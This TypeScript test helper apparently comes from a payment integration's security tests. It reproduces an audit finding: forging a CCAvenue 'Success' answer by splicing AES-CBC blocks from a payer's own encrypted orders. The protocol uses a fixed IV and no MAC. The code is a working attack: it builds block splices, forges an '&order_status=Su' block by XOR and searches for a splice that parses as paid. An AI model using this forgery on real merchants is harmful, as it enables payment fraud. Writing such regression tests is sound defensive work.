// The audit's forgery of a "Success" answer, built only from what a payer holds. CCAvenue's
// protocol encrypts the order (encRequest) and the answer (encResp) under one working key with
// AES-CBC, a fixed IV and no MAC, and the payer knows their order's plaintext. So 16-byte blocks of
// their own encRequests can be rearranged: the order's first blocks (order id, currency, amount),
// one junction block that decrypts to garbage inside a value, a block chosen to read
// "&order_status=Su", and the rest of a request whose pledged name ends in "ccess". Whether the
// garbage reads as UTF-8 without a '&' is luck (about 1 in 12,000 junctions): the auditor tried
// junctions until one was accepted; a test picks one by decrypting under the sandbox's key instead
// of posting thousands.
import { decryptCcavenue, parseCcavenueResponse } from "@/lib/payments/ccavenue-crypto";

const BLOCK = 16;
const IV = Buffer.from(Array.from({ length: BLOCK }, (_, i) => i));

/** The block the forgery makes its answer read, just before the name's last five letters. */
const STATUS_BLOCK = Buffer.from("&order_status=Su");

/**
 * A pledged name whose last five letters ("ccess") start a plaintext block of the order, in these
 * tests' layout (billing_name's value starts at byte 245; the encoded name is 64 bytes long).
 */
export const SPLICE_NAME = "Ravi Kumar Venkatasubramanian Ramakrishnan Rao Success";

/** One started order, as the payer knows it: its ciphertext and its plaintext. */
export type TSpliceOrder = { orderId: string; encRequest: string; plain: Buffer };

const blocksOf = (hex: string) => {
  const bytes = Buffer.from(hex, "hex");
  return Array.from({ length: bytes.length / BLOCK }, (_, i) => bytes.subarray(i * BLOCK, (i + 1) * BLOCK));
};

const xor = (...parts: Buffer[]) => Buffer.from(parts[0]!.map((_, i) => parts.reduce((acc, part) => acc ^ part[i]!, 0)));

/** The tail of `order`: a block that makes the next one read STATUS_BLOCK, then the request from there on. */
const tailOf = (order: TSpliceOrder) => {
  const at = order.plain.indexOf("ccess&billing_email=");
  if (at < 2 * BLOCK || at % BLOCK !== 0) throw new Error(`the name's "ccess" is at byte ${at}, not at a block start`);
  const blocks = blocksOf(order.encRequest);
  const j = at / BLOCK;
  const before = blocks[j - 2] ?? IV;
  const plainBefore = order.plain.subarray((j - 1) * BLOCK, j * BLOCK);
  // CBC: block j-1 decrypts to D(C[j-1]) ^ (the block before it); put there the one that gives STATUS_BLOCK.
  return [xor(plainBefore, before, STATUS_BLOCK), ...blocks.slice(j - 1)];
};

/** Every splice of `payee`'s first blocks with `donor`'s tail (one per junction point). */
export const splices = (payee: TSpliceOrder, donor: TSpliceOrder): string[] => {
  const head = blocksOf(payee.encRequest);
  const tail = tailOf(donor);
  return Array.from({ length: head.length - 1 }, (_, k) => Buffer.concat([...head.slice(0, k + 1), ...tail]).toString("hex"));
};

/** What the gateway's answer reads as, to code that trusts whatever decrypts and parses (null: neither). */
export const readUnder = (hex: string, workingKey: string): Record<string, string> | null => {
  try {
    return parseCcavenueResponse(decryptCcavenue(hex, workingKey));
  } catch {
    return null;
  }
};

/** The plaintext of an encRequest (the payer knows it: it is their own order). */
export const spliceOrder = (orderId: string, encRequest: string, workingKey: string): TSpliceOrder => ({
  orderId,
  encRequest,
  plain: Buffer.from(decryptCcavenue(encRequest, workingKey), "utf8"),
});

/**
 * A splice that reads as a Success of one of `orders`, for `amount` and `currency`, made with the
 * newest order as the one paid or as the one giving the tail (the older pairs were tried before).
 */
export const findSuccessSplice = (orders: TSpliceOrder[], workingKey: string, amount: string, currency: string) => {
  const newest = orders.at(-1)!;
  for (const [payee, donor] of orders.flatMap((other) => [[newest, other] as const, [other, newest] as const]))
    for (const encResp of splices(payee, donor)) {
      const fields = readUnder(encResp, workingKey);
      if (
        fields?.order_id === payee.orderId &&
        fields.order_status === "Success" &&
        fields.amount === amount &&
        fields.currency === currency
      )
        return { orderId: payee.orderId, encResp, fields };
    }
  return null;
};
